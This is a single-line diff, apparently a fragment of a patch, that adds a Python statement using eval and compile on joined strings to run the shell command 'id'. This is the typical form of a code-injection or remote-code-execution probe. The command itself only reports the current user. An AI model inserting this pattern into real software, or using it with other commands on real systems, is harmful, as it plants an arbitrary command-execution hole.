@@ -1,0 +1,1 @@
+eval(compile('\n'.join(['import os', 'os.system("id")']), '', 'exec'))
